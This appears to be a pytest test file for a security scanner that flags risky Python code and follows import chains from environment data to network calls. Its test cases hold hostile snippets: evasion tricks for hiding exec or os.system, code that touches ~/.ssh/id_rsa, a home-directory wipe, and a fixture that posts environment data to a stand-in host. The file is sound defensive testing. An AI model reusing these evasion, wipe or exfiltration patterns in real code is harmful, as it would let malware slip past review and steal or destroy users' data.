"""What the prefilter sees in a file, and which files of a package it leaves out."""

# ruff: noqa: E501, RUF001 - a table reads best with one case in a line

from __future__ import annotations

import pytest

from assay.scanner.code import prefilter
from assay.scanner.code.literals_python import WEAK, told
from assay.scanner.code.prefilter import DECISIVE, Scanned, candidates, scanner
from assay.scanner.code.vocabulary_python import VOCABULARY

FILTER = scanner()


def hot(source: str) -> frozenset[str]:
    return FILTER.scan(source.encode(), "m.py").hot


def names() -> list[tuple[str, str]]:
    """Names of the vocabulary that a finding can be made of, and their category."""
    return sorted({(name, category) for name, category, _, _ in told() if name in VOCABULARY.calls})


def written(name: str) -> tuple[str, str]:
    """The module of a qualified name, and the expression below it: ``a.B().c`` is ``a``, ``B().c``."""
    parts = name.replace("?", "x").replace("[]", "[0]").split(".")
    depth = next((at for at, part in enumerate(parts) if part[0].isupper() or "(" in part), len(parts) - 1) or 1
    return ".".join(parts[:depth]), ".".join(parts[depth:])


@pytest.mark.parametrize(("name", "category"), names())
def test_every_name_of_the_vocabulary_is_seen(name: str, category: str) -> None:
    module, rest = written(name)
    first, _, more = rest.partition(".")
    first, bracket, tail = first.partition("(")
    after = bracket + tail + ("." + more if more else "")
    call = "(x)"
    ways = [
        f"import {module}\n{module}.{rest}{call}",
        f"import {module} as q\nq.{rest}{call}",
        f"from {module} import {first} as q\nq{after}{call}",
        f"from {module} import *\n{rest}{call}",
    ]
    if module == "builtins":
        ways[0] = f"{rest}{call}"
        ways.pop(1)
    for source in ways[:1] if category in WEAK else ways:
        seen = hot(source)
        assert category in seen or seen & DECISIVE, source


@pytest.mark.parametrize(
    ("source", "category", "near_miss"),
    [
        ("exec(code)", "CODE", "self.exec(code)"),
        ("x = [exec][0]", "CODE", "# how to exec"),
        ("exec 'a = 1'", "CODE", "executor = 1"),
        ("@exec\n@input\nclass A: pass", "CODE", "@execution\nclass A: pass"),
        ("c = compile(text, '', 'exec')", "CODE", "re.compile(text)"),
        ("run = eval if a else b", "CODE", "model.eval()"),
        ("builtins.exec(a)", "CODE", "builtins.open(a)"),
        ("__import__('os').x", "CODE", "imports('os')"),
        ("types.FunctionType(c, {})", "CODE", "isinstance(f, types.FunctionType)"),
        ("os.system('x')", "PROCESS", "platform.system()"),
        ("f = tempfile._os.system\nf(a)", "PROCESS", "unit.system = a"),
        ("from os import system as s\ns(a)", "PROCESS", "from os import sep as s"),
        ("from os import *\nsystem(a)", "PROCESS", "from os.path import *"),
        ("import subprocess", "PROCESS", "process = sub"),
        ("from . import requests", "NETWORK", "# it requests a socket"),
        ("import urllib.request as r", "NETWORK", "import urllib.parse as r"),
        ("from urllib import (\n  parse, # a ) b\n  request,\n)", "NETWORK", "from urllib import (\n  parse,\n  error,\n)"),
        ("from http \\\n  import client", "NETWORK", "from http \\\n  import HTTPStatus"),
        ("try: import socket\nexcept ImportError: pass", "NETWORK", "important = socket = 1"),
        ("getattr(os, name)(a)", "HIDDEN", "getattr(self, name)(a)"),
        ("vars(builtins)[a]", "HIDDEN", "vars(self)[a]"),
        ("globals()['a' + 'b'](c)", "HIDDEN", "globals().update(a)"),
        ("sys.modules[a].b()", "HIDDEN", "sys.modules[__name__].b()"),
        ("().__class__.__base__.__subclasses__()", "HIDDEN", "().__class__.__base__"),
        ("import os as o\ngetattr(o, a)", "HIDDEN", "import os\ngetattr(o, a)"),
        ("import os, sys\nx = [os]\ngetattr(x[0], a)", "HIDDEN", "import os, sys\ngetattr(x[0], a)"),
        ("methodcaller('sy' + 'stem', a)(os)", "HIDDEN", "methodcaller('a', b)(self)"),
        ("𝐞𝐱𝐞𝐜(a)", "HIDDEN", "'это текст'"),
        ("# coding: rot13\nrkrp(n)", "HIDDEN", "# coding: latin-1\na = 1"),
        ("x = '\\x65\\x78\\x65\\x63'", "ESCAPES", "x = '\\x1b[0m'"),
        ("'cexe'[::-1]", "ESCAPES", "items[::-1]"),
        ("open(home + '/.ssh/id_rsa').write_text(a)", "PRIVATE", "print('/.ssh/id_rsa')"),
        ("shutil.rmtree(os.path.expanduser('~'))", "WIPE", "shutil.rmtree(build)"),
    ],
)  # fmt: skip
def test_categories(source: str, category: str, near_miss: str) -> None:
    assert category in hot(source)
    assert category not in hot(near_miss)


@pytest.mark.parametrize(
    ("source", "imports"),
    [
        ("import a.b, c as d; import e", ["a.b", "c", "e"]),
        ("from .a import b as c, d", [".a.b", ".a.d"]),
        ("from . import (a,\n   b) # c", [".a", ".b"]),
        ("from .. import a", ["..a"]),
        ("from ..a.b import *", ["..a.b.*"]),
        ("from . a import \\\n b", [".a.b"]),
        ("if x: import a\nelse: from b import c", ["a", "b.c"]),
        ("reimport a\nx.import_ b\n", []),
    ],
)
def test_imports(source: str, imports: list[str]) -> None:
    assert list(FILTER.scan(source.encode(), "m.py").imports) == imports


PLAIN = "def f(x):\n    return x\n"
SOURCE = "import os\ndef f():\n    return os.environ\n"
SINK = "import requests\ndef send(x):\n    requests.post('https://h.example', data=x)\n"
PASSES = "from .source import f\nfrom .sink import send\nsend(f())\n"


def chosen(sources: dict[str, str], *always: str, small: bool = False) -> set[str]:
    """The candidates of a package ``p``; unless it is small, a large file without any words lies beside."""
    paths = {f"p/{name.replace('__', '/') if name != '__init__' else name}.py": text for name, text in sources.items()}
    files = {path: FILTER.scan(text.encode(), path) for path, text in paths.items()}
    if not small:
        files["p/large.py"] = Scanned(frozenset(), (), prefilter.SMALL)
    names = {path: path.removesuffix(".py").removesuffix("/__init__").replace("/", ".") for path in files}
    found = candidates(files, names, [f"p/{name}.py" for name in always])
    return {path.removeprefix("p/").removesuffix(".py") for path in found}


@pytest.mark.parametrize(
    ("sources", "expected"),
    [
        ({"a": PLAIN, "b": SOURCE}, ""),
        ({"a": SINK, "b": PLAIN}, "a"),
        ({"source": SOURCE, "sink": SINK}, "sink"),
        ({"source": SOURCE, "sink": SINK, "c": PASSES}, "source sink c"),
        ({"source": SOURCE, "sink": SINK, "c": "from .source import f"}, "sink"),
        ({"sink": SINK, "a": "from .sink import send as s", "b": "from .a import s\ns(1)", "c": PLAIN}, "sink"),
        ({"sink": SINK, "c": "from .sink import send\nimport os\nsend(os.environ)"}, "sink c"),
        ({"sink": SINK, "__init__": "from .sink import send", "c": "from p import send\nimport os\nsend(os.environ)"}, "sink __init__ c"),
        ({"sink": SINK, "__init__": "from .sink import *", "c": "from . import send\nimport os\nsend(os.environ)"}, "sink __init__ c"),
        ({"source": "import base64\nx = base64.b64decode('YQ==')", "run": "from p.source import x\nexec(x)"}, "source run"),
        ({"source": "import base64\nx = base64.b64decode('YQ==')", "sink": "from p.source import x\n" + SINK}, "sink"),
    ],
)  # fmt: skip
def test_files_of_a_large_package(sources: dict[str, str], expected: str) -> None:
    assert chosen(sources) == set(expected.split())


@pytest.mark.parametrize(
    ("sources", "expected"),
    [
        ({"a": PLAIN, "b": SOURCE, "c": "from .a import f"}, ""),
        ({"sink": SINK, "a": "from .sink import send as s", "b": "from .a import s\ns(1)", "c": PLAIN}, "sink a b"),
    ],
)
def test_files_of_a_small_package(sources: dict[str, str], expected: str) -> None:
    assert chosen(sources, small=True) == set(expected.split())


def test_what_runs_unasked_is_followed_to_the_sink() -> None:
    sources = {
        "setup": "from p.a import f\nf()",
        "a": "from p.b import f",
        "b": "from p.sink import send as f",
        "sink": SINK,
        "c": PLAIN,
        "d": "from p.c import f",
    }
    assert chosen(sources, "setup") == {"setup", "a", "b", "sink"}
    assert chosen({"setup": PLAIN, "a": PLAIN}, "setup") == {"setup"}


def test_a_file_that_everybody_imports_links_nothing() -> None:
    together = {"source": SOURCE, "sink": SINK, "c": PASSES}
    users = {f"u{number}": "from .source import f" for number in range(prefilter.HUB)}
    assert chosen(together) == {"source", "sink", "c"}
    assert chosen(together | users) == {"sink"}


@pytest.mark.parametrize(
    ("source", "is_read"),
    [
        (SINK, False),
        ("import base64\nexec(base64.b64decode(x))", True),
        ("import pickle\npickle.loads(x)", False),
        ("import pickle, ctypes\nctypes.CDLL(pickle.loads(x))", True),
        ("import base64\nprint(base64.b64decode(x))", False),
    ],
)
def test_of_tests_only_what_may_run_what_it_decodes_is_read(source: str, is_read: bool) -> None:
    files = {"p/a.py": FILTER.scan(SINK.encode(), "p/a.py"), "tests/b.py": FILTER.scan(source.encode(), "tests/b.py")}
    files["p/large.py"] = Scanned(frozenset(), (), prefilter.SMALL)
    names = {path: path.removesuffix(".py").replace("/", ".") for path in files}
    found = candidates(files, names, (), {"tests/b.py"})
    assert found == ({"p/a.py", "tests/b.py"} if is_read else {"p/a.py"})


@pytest.mark.parametrize(
    "data", [b"", b"\xff\xfe\x00", b"\0" * 100, b"import (" * 500, b"from " * 500, b"import a, \\" * 99]
)
def test_any_bytes_are_scanned(data: bytes) -> None:
    assert isinstance(FILTER.scan(data, "m.py"), Scanned)


def test_the_shape_is_asked_for() -> None:
    assert "SHAPE" in scanner(lambda data: b"\t" in data).scan(b"\t", "m.py").hot
    assert "SHAPE" not in scanner(lambda data: b"\t" in data).scan(b" ", "m.py").hot
